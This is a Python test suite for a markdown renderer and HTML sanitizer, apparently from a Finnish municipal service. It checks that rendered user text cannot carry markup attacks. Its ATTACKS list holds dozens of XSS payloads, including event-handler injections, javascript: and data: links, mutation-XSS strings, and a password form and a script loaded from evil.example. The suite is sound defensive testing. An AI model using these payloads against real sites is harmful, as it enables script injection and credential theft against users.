import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markupsafe import Markup

from service.core.markdown import _CLEANER, TAGS, plain, render
from tests.core.effort import steps

ATTRIBUTES = {("a", "href"), ("a", "rel"), ("ol", "start")}

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='&#x6A;avascript:alert(1)'>x</a>",
    "<p style=background:url(javascript:alert(1))>x</p>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--<img src='--><img src=x onerror=alert(1)>'>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><input name=password></form>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<style>@import '//evil.example/x.css';</style>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](java\tscript:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml,<svg onload=alert(1)>)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](\\\\evil.example)",
    "[x](/api/v1/logout)",
    "[x](http:evil)",
    "[x](http://[::1)",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/track.png)",
    "![x](https://evil.example/a.png \"' onerror='alert(1)\")",
    '[x](https://ok.example "\' onclick=\'alert(1)")',
    '[x](https://ok.example/"onmouseover="alert(1))',
    "[x](https://ok.example/<script>)",
    "[<img src=x onerror=alert(1)>](https://ok.example)",
    '```html" onclick="alert(1)\n<script>alert(1)</script>\n```',
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "# <script>alert(1)</script>",
    "- <script>alert(1)</script>",
    "> <script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)",
    "<a\x00href=javascript:alert(1)>",
    "\ufeff<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "{{7*7}} {% raw %} ${7*7} <%= 7*7 %>",
]  # fmt: skip


class Parts(HTMLParser):
    """What a browser would make of it."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags, self.attributes, self.text = set(), set(), []

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attributes |= {(tag, name, value) for name, value in attrs}

    def handle_data(self, data):
        self.text.append(data)


def parts(html):
    parser = Parts()
    parser.feed(str(html))
    parser.close()
    return parser


def assert_safe(html):
    found = parts(html)
    assert found.tags <= TAGS
    assert {(tag, name) for tag, name, _ in found.attributes} <= ATTRIBUTES
    addresses = [value for _, name, value in found.attributes if name == "href"]
    assert all(re.match(r"(https?://|mailto:)", address, re.IGNORECASE) for address in addresses)
    assert all(value == "nofollow ugc" for _, name, value in found.attributes if name == "rel")


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_of_an_attack_reaches_the_page_as_markup(attack):
    assert_safe(render(attack))


@given(
    st.lists(
        st.sampled_from([*ATTACKS, "\n", " ", "*", "`", "[", "](", ")", "<", ">", '"', "'", "# ", "- "]),
        max_size=8,
    )
)
def test_nothing_of_attacks_put_together_reaches_the_page_as_markup(pieces):
    assert_safe(render("".join(pieces)))


@given(st.text())
def test_any_text_becomes_safe_markup(text):
    assert_safe(render(text))
    assert len(plain(text, 30)) <= 30


def test_script_is_shown_as_text():
    html = render("Kuka vain\n\n<script>alert('hei')</script>")
    assert isinstance(html, Markup)
    assert "&lt;script&gt;" in html
    assert "".join(parts(html).text).split("\n")[1] == "<script>alert('hei')</script>"


def test_people_can_write_what_a_text_needs():
    html = render(
        "# Otsikko\n\nKaksi\nriviä, *paino* ja **vahva**, `koodi`.\n\n- yksi\n- kaksi\n\n"
        "3. kolme\n\n> lainaus\n\n---\n\n```\n  lohko\n```\n"
    )
    assert html == (
        "<h3>Otsikko</h3>\n<p>Kaksi<br>\nriviä, <em>paino</em> ja <strong>vahva</strong>, <code>koodi</code>.</p>\n"
        '<ul>\n<li>yksi</li>\n<li>kaksi</li>\n</ul>\n<ol start="3">\n<li>kolme</li>\n</ol>\n'
        "<blockquote>\n<p>lainaus</p>\n</blockquote>\n<hr>\n<pre><code>  lohko\n</code></pre>\n"
    )


@pytest.mark.parametrize(
    "address", ["https://hel.fi/a?b=1&c=2", "http://åbo.fi", "mailto:neuvonta@kaupunki.example"]
)
def test_a_link_tells_search_engines_that_the_city_did_not_set_it(address):
    html = render(f"[linkki]({address})")
    assert html.startswith('<p><a href="')
    assert 'rel="nofollow ugc"' in html
    assert "<a " in render(f"<{address.removeprefix('mailto:')}>")


def test_a_refused_link_is_shown_as_it_was_written():
    assert parts(render("[tästä](javascript:alert(1))")).text == ["[tästä](javascript:alert(1))", "\n"]


def test_headings_begin_below_the_pages_own_and_skip_no_level():
    html = render("## a\n\n#### b\n\n# c\n\n##### d\n\n###### e\n\nf\n---\n\n> # g")
    assert re.findall(r"<(h\d)>(\w)", html) == [
        ("h3", "a"), ("h4", "b"), ("h3", "c"), ("h4", "d"), ("h5", "e"), ("h4", "f"), ("h3", "g"),
    ]  # fmt: skip


def test_a_heading_without_words_is_no_heading():
    assert render("# \n\n## ![](https://x.example/a.png)\n\n### a") == "<h3>a</h3>\n"


def test_a_picture_becomes_its_description():
    assert render("![Kuva *rannasta*](https://x.example/a.png)") == "<p>Kuva rannasta</p>\n"


@pytest.mark.parametrize(
    "text", ["[](https://x.example)", "[ ](https://x.example)", "[![](https://y.example)](https://x.example)"]
)
def test_a_link_without_words_shows_its_address(text):
    assert parts(render(text)).text[0].strip() == "https://x.example"


def test_a_picture_inside_a_link_gives_it_words():
    assert parts(render("[![kartta](https://y.example)](https://x.example)")).text == ["kartta", "\n"]


def test_an_excerpt_is_plain_words():
    text = "# Penkkejä\n\nLisää **penkkejä** [rantaan](https://x.example)\nja `puistoon` &amp; <b>.\n\n```\nx\n```"
    assert plain(text, 200) == "Penkkejä Lisää penkkejä rantaan ja puistoon & <b>. x"


def test_an_excerpt_is_cut_after_a_word():
    assert plain("Lisää penkkejä, rantaan ja puistoon", 22) == "Lisää penkkejä…"
    assert plain("Lisää penkkejä", 14) == "Lisää penkkejä"
    assert plain("Lentokonesuihkuturbiinimoottori", 10) == "Lentokone…"
    assert plain("", 10) == ""


@pytest.mark.parametrize(
    "text",
    ["[" * 5_000, "![" * 2_500, "*a " * 1_600, "a**b" * 1_250, "[a](" * 1_250, "`" * 4_999 + "a", ">" * 5_000, "<" * 5_000,
     "- " * 2_500, "&" * 5_000, "[a]: x\n" * 400 + "[a] " * 500, "*_a" * 1_600],
    ids=lambda text: text[:6],
)  # fmt: skip
def test_no_text_of_the_longest_length_takes_many_steps(text):
    assert steps(lambda: (render(text), plain(text, 200))) < 10_000_000


def test_the_cleaner_stands_even_where_the_parser_were_fooled():
    assert_safe(_CLEANER.clean("".join(ATTACKS)))
    assert _CLEANER.clean('<p id="a" class="b" title="c" lang="d" style="e">x</p><a href="/f">g</a>') == (
        '<p>x</p><a rel="nofollow ugc">g</a>'
    )
